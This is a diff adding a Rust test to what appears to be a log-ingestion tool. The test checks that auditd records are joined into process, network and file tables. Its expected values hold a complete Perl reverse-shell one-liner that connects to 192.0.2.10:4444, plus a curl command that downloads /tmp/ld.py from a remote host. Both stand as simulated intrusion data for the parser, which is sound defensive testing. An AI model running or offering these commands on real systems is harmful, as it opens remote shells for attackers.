@@ -690,3 +690,38 @@ fn archives_are_read_member_by_member_and_never_write_where_a_member_says() {
     assert_eq!((t.summary.files[0].read, t.summary.files[0].stored), (39, 39));
     assert!(!dir.path().parent().unwrap().join("escaped.json").exists(), "no member is written under its own name");
 }
+
+#[test]
+fn auditd_records_are_joined_by_serial_into_processes_connections_and_files() {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/linux/audit.log");
+    let t = ingest_files(&[path]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Auditd));
+    // 25 lines: 8 events (one interleaved with another) and a line that is no record.
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (8, 5, 2, 1));
+    assert_eq!(f.reject_reasons.values().next().unwrap().first_line, 25);
+    let rows = query(
+        &t.store,
+        r#"SELECT "host.name", "user.name", "process.pid", "process.parent.pid", "process.name", "process.command_line",
+                  "process.working_directory", "log.file.line"
+           FROM process ORDER BY "@timestamp""#,
+    );
+    let script = r#"use Socket;$i="192.0.2.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#;
+    let url = format!("http://198.51.100.73:8000/{}", "x".repeat(40));
+    assert_eq!(
+        rows,
+        [
+            ["web-01", "alice", "2301", "2200", "perl", &format!("perl -e {script}"), "/home/alice", "2"],
+            ["web-01", "NULL", "2301", "2200", "dash", "/bin/sh -i", "/home/alice", "13"],
+            ["web-01", "NULL", "2310", "2301", "curl", &format!("curl -so /tmp/ld.py {url}"), "NULL", "17"],
+        ]
+        .map(|r| r.map(str::to_string).to_vec())
+    );
+    let row = one_row(
+        &t.store,
+        r#"SELECT "destination.ip", "destination.port", "process.name", "log.file.line" FROM network"#,
+    );
+    assert_eq!(row, ["192.0.2.10", "4444", "perl", "9"]);
+    let row = one_row(&t.store, r#"SELECT "event.action", "file.path", "process.name" FROM file"#);
+    assert_eq!(row, ["creation", "/tmp/ld.py", "curl"]);
+}
